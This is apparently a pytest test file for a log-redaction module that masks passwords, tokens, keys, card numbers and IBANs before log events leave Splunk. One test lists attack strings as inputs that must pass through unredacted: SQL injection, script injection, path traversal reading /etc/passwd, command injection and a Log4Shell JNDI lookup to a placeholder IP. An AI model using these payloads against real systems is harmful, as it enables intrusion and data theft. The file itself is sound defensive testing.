"""What may leave Splunk: secrets and account numbers do not, attacks and everything else do."""
import pytest
from hypothesis import given
from hypothesis import strategies as st

from aiscore_contract.redact import redact, redact_event

KEY_BLOCK = "-----BEGIN RSA PRIVATE KEY-----\nMIIEabc+/=\n-----END RSA PRIVATE KEY-----"


@pytest.mark.parametrize("text, redacted", [
    ('{"user": "bob", "password": "hunter2"}', '{"user": "bob", "password": "secret"}'),
    ('{"password": "two words"}', '{"password": "two words"}'),  # could be an attack; see the next test
    (r'"{\"db_password\": \"hunter2\"}"', r'"{\"db_password\": \"secret\"}"'),
    ("login user=bob password=P@ss!w0rd from 10.0.0.1", "login user=bob password=secret from 10.0.0.1"),
    ("dbPassword=hunter2;apiKey=9f8e7d6c5b4a", "dbPassword=secret;apiKey=secret"),
    ("api_key: 9f8e7d6c5b4a", "api_key: secret"),
    ("POST /a?user=bob&pwd=hunter2&x=1 HTTP/1.1", "POST /a?user=bob&pwd=secret&x=1 HTTP/1.1"),
    ("GET /a?pwd=h%26nter%232 HTTP/1.1", "GET /a?pwd=secret HTTP/1.1"),
    ("Cookie: JSESSIONID=38FEB809FAFE58BC; a=b", "Cookie: secret; a=b"),
    ("GET /a;jsessionid=38FEB809FAFE58BC?x=1 HTTP/1.1", "GET /a;jsessionid=secret?x=1 HTTP/1.1"),
    ("GET /a?jsessionid=38FEB809FAFE58BC&x=1 HTTP/1.1", "GET /a?jsessionid=secret&x=1 HTTP/1.1"),
    ("curl -H 'Authorization: Bearer abc.def.ghi123' x", "curl -H 'Authorization: Bearer secret' x"),
    ("authorization: basic dXNlcjpwYXNz", "authorization: basic secret"),
    ("mysql -u root -p hunter2 shop", "mysql -u root -p secret shop"),
    ("mysql -u root -phunter2 shop", "mysql -u root -psecret shop"),
    ("mysqldump --password=hunter2 shop", "mysqldump --password=secret shop"),
    ("tool --token hunter2x shop", "tool --token secret shop"),
    ("runas /p:hunter2 x", "runas /p:secret x"),
    ("<Data Name='NewPassword'>hunter2</Data>", "<Data Name='NewPassword'>secret</Data>"),
    ("aws AKIAABCDEFGHIJKLMNOP used", "aws secret used"),
    ("secret_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY x", "secret_key=secret x"),
    ("t=ghp_abcdefghijklmnopqrstuvwxyz012345", "t=secret"),
    (f"a {KEY_BLOCK} b", "a -----BEGIN RSA PRIVATE KEY-----secret-----END RSA PRIVATE KEY----- b"),
    ("paid with 4111 1111 1111 1111 today", "paid with 4000 1234 5678 9017 today"),
    ("paid with 4111-1111-1111-1111.", "paid with 4000-1234-5678-9017."),
    ("amex 378282246310005", "amex 300012345678900"),
    ("to DE89 3704 0044 0532 0130 00 now", "to DE43 1234 5678 9012 3456 78 now"),
    ("\u0130\u0130 password=hunter2", "\u0130\u0130 password=secret"),  # two characters each in lower case
])
def test_secrets_and_account_numbers_do_not_leave(text, redacted):
    assert redact_event(text) == redacted


@pytest.mark.parametrize("text", [
    "password=%27+or+1%3D1--", "password=' or 1=1--", 'password="x\' or 1=1"', "pwd=<script>alert(1)</script>", "token=../../etc/passwd",
    "token=${jndi:ldap://203.0.113.9/a}", "secret=;cat /etc/passwd", "password=x');drop table users", "token=%3Cscript%3E", "pwd=a|id",
])
def test_an_attack_does_not_hide_behind_the_name_of_a_secret(text):
    assert redact_event(f"GET /login?{text} HTTP/1.1") == f"GET /login?{text} HTTP/1.1"


@pytest.mark.parametrize("text", [
    "", "Failed password for root from 192.0.2.1 port 22", "token expired", "token: expired", "bearer authentication failed", "PWD=/home/ubuntu",
    "pam_unix(chpasswd:chauthtok): user", "bypass: AzureServices", 'password": null', '"bot_token": true', "PASSWORD = '***'", "pwd=C:\\Windows",
    "arn:aws:secretsmanager:us-west-2:123456789012:secret:a/b-c", '"ElevatedToken":"%%1842"', "sessionid: 0x14f4a6318b80004",
    "S-1-5-21-2967420476-1305424719-3994513216-500", "blk_-4238505764488651491", "id 1234567890123456", "1131567207 2005.11.09 11",
    "trace 4111111111111112", "4111-1111-1111-1111-1", "x4111111111111111", "GB29NWBK60161331926818", "Keywords=0x8020000000000000",
    "2026-11-25 18:00:00.4111111111111111", "account key", "PublicKeyToken=b77a5c561934e089", "MONKEY=banana", "passage=open", "compass: north-west",
])
def test_what_is_no_secret_stays(text):
    assert redact_event(text) == text


@pytest.mark.parametrize("text, redacted", [
    ("Authorization: Bearer word x", "Authorization: Bearer secret x"),
    ("Authorization: Basic dTpw x", "Authorization: Basic secret x"),
    ("sshpass -p winter ssh bob@h", "sshpass -p secret ssh bob@h"),
    ("sshpass -pwinter ssh bob@h", "sshpass -psecret ssh bob@h"),
    ("mysql -h db -pwinter shop", "mysql -h db -psecret shop"),
    ("curl -s -u bob:winter http://h/a", "curl -s -u bob:secret http://h/a"),
    (r"net use x: \\h\c /user:dom\u winter", r"net use x: \\h\c /user:dom\u secret"),
    (r"psexec \\h -u bob -p winter cmd", r"psexec \\h -u bob -p secret cmd"),
    ("ConvertTo-SecureString 'win ter' -AsPlainText", "ConvertTo-SecureString secret -AsPlainText"),
    ("git clone https://bob:winter@h/a", "git clone https://bob:secret@h/a"),
    ("snmp-server community winter RO", "snmp-server community secret RO"),
    ("PASS winter", "PASS secret"),
    ("{password:\"x\"}", "{password:\"secret\"}"),
    ("\"password\" : \"x\"", "\"password\" : \"secret\""),
    ("pwd='x y' z", "pwd='secret' z"),
    ("AccountKey=abcdefgh12345678==;x", "AccountKey=secret;x"),
])
def test_secrets_of_programs_and_protocols_are_not_quoted(text, redacted):
    assert redact(text) == redacted


@pytest.mark.parametrize("text", ["nc -l -p 443", "mkdir -p build", "docker run -p 80:80 web", "mysql -P 3306", "curl http://h:80/a",
                                  "community edition", "net use", "password='' or ''=''"])
def test_options_of_other_programs_stay_in_a_quotation(text):
    assert redact(text) == text


@given(st.text(st.characters(whitelist_categories=("Ll",), max_codepoint=127), min_size=9, max_size=20).map(lambda word: f"zq{word}"),
       st.sampled_from(("Authorization: Bearer {}", "sshpass -p {} ssh h", "curl -u bob:{} h", "https://bob:{}@h/", "psexec h -p {} cmd",
                        "password:\"{}\"", "snmp-server community {}")))
def test_a_plain_word_is_a_secret_where_one_is_due(word, form):
    assert word not in redact(form.format(word))


@pytest.mark.parametrize("text", ["mysql a " * 5_000, "curl -u a " * 5_000, "net use /u " * 5_000, "snmp " * 8_000, "a://b" * 8_000, "psexec " * 6_000,
                                  "password:'" * 5_000, "authorization: bearer " * 3_000], ids=lambda text: text[:8])
def test_quotations_made_to_be_slow_are_not(text):
    redact(text)


@given(st.text(max_size=300))
def test_any_text_can_be_redacted(text):
    assert isinstance(redact_event(text), str) and isinstance(redact(text), str)


@pytest.mark.parametrize("text", ["password=" * 4_000, "-----BEGIN PRIVATE KEY-----" * 1_500, "4111 " * 8_000, "eyJaaaaaaaa." * 3_000, "token " * 6_000,
                                  "DE89 " * 8_000, " -u a" * 8_000, "passw" * 8_000, '"secret":"' * 4_000],
                         ids=lambda text: text[:10])
def test_texts_made_to_be_slow_are_not(text):
    """A pattern that tries all pairs of places would take hours on these."""
    redact_event(text)
